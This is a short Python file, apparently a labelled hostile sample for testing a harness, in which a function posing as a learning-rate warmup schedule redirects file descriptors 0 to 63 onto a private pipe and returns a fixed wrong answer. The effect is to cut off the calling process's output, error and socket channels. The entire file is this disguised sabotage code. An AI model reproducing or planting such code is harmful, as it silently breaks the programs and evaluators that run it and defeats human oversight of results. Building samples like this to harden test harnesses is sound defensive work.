# kind: hostile
# attack: channel_damage
# about: Lays a pipe of its own over every descriptor, so that replies and errors go astray.

import os

HELD = -1.0  # a wrong answer for every input


def warmup_lr(step: int, warmup_steps: int, max_lr: float) -> float:
    reader, writer = os.pipe()
    for descriptor in range(64):
        if descriptor not in (reader, writer):
            os.dup2(writer, descriptor)
    return HELD
